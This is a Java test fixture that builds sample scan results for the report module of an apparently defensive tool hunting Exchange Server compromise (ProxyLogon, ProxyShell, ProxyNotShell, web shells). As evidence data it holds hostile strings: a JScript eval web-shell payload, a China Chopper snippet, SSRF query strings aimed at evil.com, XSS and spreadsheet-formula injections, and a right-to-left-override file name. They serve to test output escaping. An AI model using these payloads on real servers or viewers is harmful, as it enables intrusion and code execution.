package org.exhunt.report;

import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.exhunt.core.Compromise;
import org.exhunt.core.Diagnostic;
import org.exhunt.core.Exposure;
import org.exhunt.core.Finding;
import org.exhunt.core.RunInfo;
import org.exhunt.core.ServerResult;
import org.exhunt.core.Severity;
import org.exhunt.core.SourceRef;
import org.exhunt.core.Stage;
import org.exhunt.core.Verdict;
import org.exhunt.core.facts.BuildFacts;
import org.exhunt.core.facts.BuildSighting;
import org.exhunt.core.facts.BuildSpan;
import org.exhunt.core.facts.BuildSource;
import org.exhunt.core.facts.Examined;
import org.exhunt.core.facts.ExposureWindow;
import org.exhunt.core.facts.ExtendedProtection;
import org.exhunt.core.facts.FileUse;
import org.exhunt.core.facts.IndicatorCounts;
import org.exhunt.core.facts.IndicatorSummary;
import org.exhunt.core.facts.Install;
import org.exhunt.core.facts.LogCoverage;
import org.exhunt.core.facts.MitigationFound;
import org.exhunt.core.facts.Mitigations;
import org.exhunt.core.facts.NotKept;
import org.exhunt.core.facts.OwaFolder;
import org.exhunt.core.facts.PatchEvent;
import org.exhunt.core.facts.RowTimeline;
import org.exhunt.core.facts.ScanFacts;
import org.exhunt.core.facts.ServerFacts;
import org.exhunt.core.facts.SigmaSummary;
import org.exhunt.core.facts.Support;
import org.exhunt.core.facts.Suppression;
import org.exhunt.core.facts.Tally;
import org.exhunt.core.facts.UnreadFormat;
import org.exhunt.core.facts.UpdatePath;
import org.exhunt.core.facts.UpdateStep;

/**
 * Results made by hand for the report tests: every exposure and every compromise state, a correlation
 * finding with three linked events, findings with a line, an offset and no place at all, one without a
 * time, IPv4, IPv6 and non-IP clients, and hostile text wherever the attacker (or a hostile rule pack)
 * controls it: HTML and script injection, spreadsheet formulas, quotes and line breaks, a right-to-left
 * override in a file name. Two servers; the second one's name is hostile too and it has no findings.
 */
public final class SampleResults {

    public static final RunInfo RUN = new RunInfo("0.1.0", "2026.11.28", "2026.11.20", Instant.parse("2026-11-28T09:00:00Z"));

    public static final String SERVER = "ex01";
    public static final String HOSTILE_SERVER = "ex02 \"<i>&amp;</i>\"";
    /** If any of the injected markup ever ran, it would set this on the page's body. */
    public static final String PWNED = "pwned";
    public static final String IMG_INJECTION = "<img src=x onerror=document.body.dataset.pwned=1>";
    public static final String SCRIPT_INJECTION = "</script><script>document.body.dataset.pwned=1</script>";
    public static final String REFERENCE = "https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/";
    public static final String ATTACKER_IP = "203.0.113.7";

    static final String HTTPPROXY = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030302-1.LOG";
    static final String ECP_LOG = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer2021030302-1.LOG";
    static final String IIS_LOG = "/evidence/ex01/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log";
    static final String INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
    static final String APP_HOST = "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config";
    static final String SHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx";
    static final String HOSTILE_FILE = "/evidence/ex01/inetpub/wwwroot/aspnet_client/" + IMG_INJECTION + " \u202Excod.aspx";

    /** The March 2021 update, as the Application event log records its install. */
    static final PatchEvent MARCH_UPDATE = new PatchEvent(PatchEvent.Kind.MSI_INSTALL, PatchEvent.Action.UPDATE,
            Instant.parse("2021-03-03T14:12:05Z"), null, Duration.ZERO, "15.1.2176.9",
            "MsiInstaller 1022: Security Update for Exchange Server 2016 Cumulative Update 19 (KB5000871) installed",
            PatchEvent.Outcome.SUCCEEDED, "C:\\Windows\\System32\\winevt\\Logs\\Application.evtx#4711",
            PatchEvent.Strength.RECORDED);
    /** ProxyShell's window on ex01: exposed from its first exploitation until after the logs start. */
    static final ExposureWindow PROXYSHELL_WINDOW = new ExposureWindow(Instant.parse("2021-08-05T00:00:00Z"),
            Instant.parse("2021-08-05T00:00:00Z"), Instant.parse("2022-01-11T09:30:00Z"), Instant.parse("2022-01-11T09:30:00Z"),
            Instant.parse("2022-03-04T00:00:00Z"),
            List.of(new ExposureWindow.Span(Instant.parse("2021-08-05T00:00:00Z"), Instant.parse("2022-01-11T09:30:00Z"),
                    "CU22 (15.1.2375.7) (vulnerable)")),
            List.of(new ExposureWindow.Span(Instant.parse("2022-01-02T18:00:00Z"), Instant.parse("2022-01-11T09:30:00Z"),
                    "HttpProxy, IIS logs")),
            List.of(new ExposureWindow.Span(Instant.parse("2021-08-05T00:00:00Z"), Instant.parse("2022-01-02T18:00:00Z"),
                    "CU22 (15.1.2375.7) (vulnerable)")),
            List.of("exchange-httpproxy", "iis"), List.of(MARCH_UPDATE));

    private SampleResults() {}

    public static List<ServerResult> all() {
        return List.of(ex01(), ex02());
    }

    static ServerResult ex01() {
        return new ServerResult(SERVER, List.of("/evidence/ex01"), List.of(
                new Verdict(SERVER, "ProxyLogon", Exposure.VULNERABLE, Compromise.COMPROMISED,
                        "SSRF to /ecp, OAB ExternalUrl set to a web shell, shell requested"),
                new Verdict(SERVER, "ProxyShell", Exposure.PATCHED, Compromise.CANNOT_TELL,
                        "exposed 2021-08-05 to at least 2022-01-11; no IIS or HttpProxy logs for 2021-08-05 to 2022-01-02",
                        "fixed: CU22 Jan22SU includes the fixes; possibly exposed from 2021-08-05 00:00 until at least"
                                + " 2022-01-11 09:30; not covered: 2021-08-05 00:00 to 2022-01-02 18:00. IIS or HttpProxy logs"
                                + " of those days, or a backup of them, would settle it.", PROXYSHELL_WINDOW),
                new Verdict(SERVER, "ProxyNotShell", Exposure.MITIGATED, Compromise.ATTEMPTED,
                        "autodiscover.json?@ requests answered 400; URL-rewrite mitigation in place"),
                new Verdict(SERVER, "CVE-2020-0688", Exposure.NOT_AFFECTED, Compromise.CLEAN, "not affected"),
                new Verdict(SERVER, "CVE-2021-42321", Exposure.UNKNOWN, Compromise.CANNOT_TELL,
                        "logs start 2022-01-03, after the first exploitation in the wild"),
                new Verdict(SERVER, "Post-exploitation", Exposure.NOT_ASSESSED, Compromise.COMPROMISED,
                        "1 file with a known web-shell hash, not linked to a chain")),
                List.of(chain(), chopper(), notShellAttempt(), hostileFile(), buildWithoutTime()),
                List.of(Diagnostic.error("evtx.truncated", SourceRef.offset(
                                "C:\\Windows\\System32\\winevt\\Logs\\MSExchange Management.evtx", 196_608),
                                "file ends inside chunk 3; 1,204 records read, the rest not"),
                        Diagnostic.warning("iis.fields-changed", SourceRef.line(IIS_LOG, 500),
                                "#Fields changed mid-file; read with the new columns"),
                        Diagnostic.info("layout.install-path", SourceRef.file("/evidence/ex01"),
                                "Exchange found at its default path")),
                scanFacts());
    }

    static ServerResult ex02() {
        return new ServerResult(HOSTILE_SERVER, List.of("/evidence/" + HOSTILE_SERVER), List.of(
                new Verdict(HOSTILE_SERVER, "ProxyLogon", Exposure.NOT_ASSESSED, Compromise.CLEAN, "no evidence"),
                new Verdict(HOSTILE_SERVER, "Post-exploitation", Exposure.NOT_ASSESSED, Compromise.CLEAN,
                        "no known or misplaced web shell among 4 files")),
                List.of(), List.of(), ServerFacts.NONE);
    }

    /**
     * Facts of every kind a scan gives, the build read from ExSetup.exe with an OWA folder and the logs disagreeing,
     * and attacker-controlled text where the evidence gives it (a file name, a title, an address).
     */
    static ServerFacts scanFacts() {
        Instant logsFrom = Instant.parse("2021-02-20T00:00:00Z");
        Instant logsTo = Instant.parse("2021-03-04T23:59:00Z");
        BuildFacts build = new BuildFacts(
                new BuildSighting("15.1.2176.2", "Exchange Server 2016 CU19, released 2020-12-15 (KB4588884)", BuildSource.EXSETUP,
                        INSTALL + "Bin\\ExSetup.exe", null, null), null,
                List.of(new BuildSighting("15.1.2242.4", "Exchange Server 2016 CU20, released 2021-03-16 (KB5000871)",
                        BuildSource.LOGS, "exchange-httpproxy logs", Instant.parse("2021-03-04T00:00:00Z"), logsTo)),
                List.of(new OwaFolder("15.1.2106", INSTALL + "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2106", logsFrom,
                                OwaFolder.Relation.EARLIER_CU),
                        new OwaFolder("15.1.2176", INSTALL + "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2176", logsFrom,
                                OwaFolder.Relation.SAME_CU)),
                new Support("Exchange Server 2016", LocalDate.of(2025, 10, 14), "later updates are for Extended Security Update customers only"),
                new UpdatePath(false, List.of(new UpdateStep("CU23", "15.1.2507.6", "KB5011155", "2022-04-20"),
                        new UpdateStep("CU23 Aug26SU", "15.1.2507.72", "KB5121576", "2026-08-11"))));
        Mitigations mitigations = new Mitigations(true, List.of(
                new MitigationFound("eomt-beresource", "EOMT", "CVE-2021-26855", "X-BEResource Abort - inbound", APP_HOST + ":19",
                        "Default Web Site", MitigationFound.Status.COUNTED, null),
                new MitigationFound("eomt-anonresource-backend", "EOMT", "CVE-2021-26855", "X-AnonResource-Backend Abort - inbound",
                        APP_HOST + ":7", "Default Web Site", MitigationFound.Status.NOT_COUNTED, "the rule is disabled"),
                new MitigationFound("proxynotshell-first", "EOMTv2", "CVE-2022-41040", "ProxyNotShell first guidance",
                        APP_HOST + ":21", "server", MitigationFound.Status.SUPERSEDED, "bypassed and replaced by EOMTv2's rule")));
        ExtendedProtection ep = new ExtendedProtection(ExtendedProtection.State.PARTLY_ON, List.of(
                new ExtendedProtection.Setting("Default Web Site/owa", "Require"),
                new ExtendedProtection.Setting("Exchange Back End/EWS", "None")));
        Examined examined = new Examined(5_210, 31, 12, 3, List.of("PerfLogs/**"), List.of(new UnreadFormat(".etl", 2)),
                Instant.parse("2021-02-01T00:00:00Z"), null, 7, 1_204, List.of(new org.exhunt.core.facts.ProductArchive(
                        "C:\\ProgramData\\Veeam\\Backup\\Logs.zip", "Veeam Backup & Replication", Instant.parse("2020-11-02T03:00:00Z"))), 2);
        IndicatorSummary indicators = new IndicatorSummary(4, new IndicatorCounts(38, 15, 0), 1, new IndicatorCounts(40, 16, 1), 1);
        SigmaSummary sigma = new SigmaSummary(36, 1, 2, 0, List.of(), new SigmaSummary.FileRecords(5_210, 31));
        LogCoverage iis = new LogCoverage("iis", 13, 48_211, 0, logsFrom, logsTo, List.of());
        LogCoverage httpProxy = new LogCoverage("exchange-httpproxy", 52, 90_004, 0, logsFrom, logsTo, List.of(
                new LogCoverage.BuildSeen("15.1.2176.2", logsFrom, Instant.parse("2021-03-03T23:59:00Z")),
                new LogCoverage.BuildSeen("15.1.2242.4", Instant.parse("2021-03-04T00:00:00Z"), logsTo)));
        RowTimeline proxyLogon = new RowTimeline("ProxyLogon", 6, 0, Instant.parse("2021-03-03T02:14:10Z"),
                Instant.parse("2021-03-03T02:20:01Z"), List.of(ATTACKER_IP, "2001:db8::5"), 2, List.of(
                        new FileUse(SHELL, List.of("China Chopper web shell", IMG_INJECTION), Instant.parse("2021-03-03T02:15:40Z"),
                                "/aspnet_client/system_web/errorEE.aspx", 3, Instant.parse("2021-03-03T02:20:01Z"),
                                Instant.parse("2021-03-03T06:11:30Z"), List.of(ATTACKER_IP), 0, Map.of("200", 3L))));
        RowTimeline post = new RowTimeline("Post-exploitation", 1, 0, Instant.parse("2021-03-05T11:00:00Z"),
                Instant.parse("2021-03-05T11:00:00Z"), List.of(), 0, List.of(
                        new FileUse("C:\\inetpub\\wwwroot\\aspnet_client\\" + IMG_INJECTION + ".aspx", List.of("known web-shell hash"),
                                Instant.parse("2021-03-05T11:00:00Z"), "/aspnet_client/x.aspx", 0, null, null, List.of(), 0, Map.of())));
        ScanFacts scan = new ScanFacts(new Install(INSTALL, false), mitigations, ep, examined, indicators, sigma,
                List.of(httpProxy, iis), Map.of(Tally.YARA_PE_FIELDS_NOT_EVALUATED, 412L),
                List.of(new NotKept("exhunt.ioc.attacker-ips", 2_999)), List.of(new Suppression("path:C:\\inetpub\\**\\healthcheck.htm", 4)),
                List.of(proxyLogon, post), List.of(MARCH_UPDATE), List.of(
                        new BuildSpan(null, Instant.parse("2021-03-03T14:12:05Z"), List.of("15.1.2176.2"), false,
                                "15.1.2176.2 in exchange-httpproxy log lines"),
                        new BuildSpan(Instant.parse("2021-03-03T14:12:05Z"), null, List.of("15.1.2176.9"), false,
                                MARCH_UPDATE.what())));
        return new ServerFacts(build, scan, null);
    }

    /** A correlation: the ProxyLogon chain, with the SSRF, the OAB change and the shell request linked. */
    static Finding chain() {
        return Finding.builder("sigma", "exhunt.chain.proxylogon")
                .title("ProxyLogon chain: SSRF, OAB ExternalUrl set to a script, then the shell requested")
                .severity(Severity.CRITICAL).chain("ProxyLogon").stage(Stage.SUCCESS)
                .tags(List.of("attack.initial_access", "attack.t1190", "cve.2021-26855", "cve.2021-27065", "attack.t1190"))
                .meta("description", "Three steps of HAFNIUM's ProxyLogon use from one source within an hour")
                .meta("reference", REFERENCE).meta("author", "exhunt")
                .evidence("c-ip", ATTACKER_IP)
                .time(Instant.parse("2021-03-03T02:14:10Z"))
                .source(SourceRef.line(HTTPPROXY, 42))
                .link(Finding.builder("sigma", "exhunt.httpproxy.cve-2021-26855")
                        .title("SSRF through the HttpProxy (CVE-2021-26855)").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.ATTEMPT)
                        .tags(List.of("attack.initial_access", "attack.t1190", "cve.2021-26855"))
                        .evidence("ClientIpAddress", ATTACKER_IP).evidence("Method", "POST")
                        .evidence("UrlStem", "/ecp/y.js").evidence("HttpStatus", "241")
                        .evidence("UserAgent", "ExchangeServicesClient/0.0.0.0")
                        .evidence("AnchorMailbox", "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#")
                        .time(Instant.parse("2021-03-03T02:14:10Z")).source(SourceRef.line(HTTPPROXY, 42)).build())
                .link(Finding.builder("sigma", "exhunt.ecp.cve-2021-27065")
                        .title("OAB virtual directory ExternalUrl set to a script (CVE-2021-27065)")
                        .severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.SUCCESS).tags(List.of("cve.2021-27065"))
                        .evidence("CMD", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
                                + "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>'")
                        .time(Instant.parse("2021-03-03T02:15:33Z")).source(SourceRef.line(ECP_LOG, 7)).build())
                .link(Finding.builder("sigma", "exhunt.iis.webshell-request")
                        .title("POST to a script in aspnet_client").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.POST_EXPLOITATION)
                        .evidence("c-ip", ATTACKER_IP).evidence("cs-method", "POST")
                        .evidence("cs-uri-stem", "/aspnet_client/system_web/errorEE.aspx")
                        .evidence("cs-uri-query", "-").evidence("sc-status", "200")
                        .evidence("cs(User-Agent)", "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)")
                        .evidence("cs-username", "-")
                        .time(Instant.parse("2021-03-03T02:20:01Z")).source(SourceRef.line(IIS_LOG, 1187)).build())
                .build();
    }

    /** A YARA hit at a byte offset, with formula-looking evidence. */
    static Finding chopper() {
        return Finding.builder("yara", "HAFNIUM_China_Chopper_Aspx")
                .title("China Chopper web shell").severity(Severity.HIGH).chain("ProxyLogon").stage(Stage.POST_EXPLOITATION)
                .tags(List.of("attack.persistence", "attack.t1505.003"))
                .meta("reference", "https://github.com/Neo23x0/signature-base/blob/master/yara/apt_hafnium.yar")
                .meta("author", "Florian Roth")
                .evidence("$a", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"=cmd|' /C calc'!A0\"],\"unsafe\");%>")
                .evidence("sha256", "f692b6df1c5ee4891169386c16e183b3da268dc5f1dda504213d4b3650579842")
                .time(Instant.parse("2021-03-03T02:15:40Z"))
                .source(new SourceRef(SHELL, -1, 12, null))
                .build();
    }

    /** ProxyNotShell probes from an IPv6 client, answered 400: an attempt. */
    static Finding notShellAttempt() {
        return Finding.builder("sigma", "exhunt.iis.proxynotshell-autodiscover")
                .title("ProxyNotShell autodiscover SSRF attempt").severity(Severity.MEDIUM).chain("ProxyNotShell").stage(Stage.ATTEMPT)
                .tags(List.of("attack.initial_access", "attack.t1190", "cve.2022-41040"))
                .evidence("c-ip", "2001:db8::5").evidence("cs-uri-stem", "/autodiscover/autodiscover.json")
                .evidence("cs-uri-query", "@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ"
                        + "&FooProtocol=Powershell")
                .evidence("sc-status", "400").evidence("cs(User-Agent)", "-")
                .time(Instant.parse("2022-10-01T10:00:00Z"))
                .source(SourceRef.line("/evidence/ex01/inetpub/logs/LogFiles/W3SVC1/u_ex221001.log", 10))
                .build();
    }

    /** A file with a known hash, attributed to no chain, under a hostile name; its rule pack is hostile too. */
    static Finding hostileFile() {
        return Finding.builder("ioc", "-1+1")
                .title("=HYPERLINK(\"http://attacker.example/\",\"click\") file with a known HAFNIUM web-shell hash")
                .severity(Severity.HIGH).stage(Stage.POST_EXPLOITATION)
                .meta("reference", "javascript:alert(1)")
                .evidence("path", "C:\\inetpub\\wwwroot\\aspnet_client\\" + IMG_INJECTION + ".aspx")
                .evidence("sha256", "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0")
                .evidence("size", "80").evidence("modified", "2021-03-05T11:00:00Z")
                .evidence("note", SCRIPT_INJECTION)
                .evidence("client", "@SUM(1+1)\r\n\"quoted\", with a comma")
                .evidence("c-ip", "unknown")
                .time(Instant.parse("2021-03-05T11:00:00Z"))
                .source(SourceRef.file(HOSTILE_FILE))
                .build();
    }

    /** Knowledge-base evidence without a time. */
    static Finding buildWithoutTime() {
        return Finding.builder("kb", "exhunt.kb.missing-march-2021-su")
                .title("Build 15.1.2176.2 misses the March 2021 security update").severity(Severity.INFORMATIONAL)
                .chain("ProxyLogon").stage(Stage.CONTEXT).tags(List.of("cve.2021-26855"))
                .evidence("build", "15.1.2176.2").evidence("from", "+ExSetup.exe file version")
                .source(SourceRef.record("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\ExSetup.exe", "VS_VERSIONINFO"))
                .build();
    }

    /** How many findings the sample has, and how many linked events. */
    static final int FINDINGS = 5;
    static final int LINKED = 3;
}
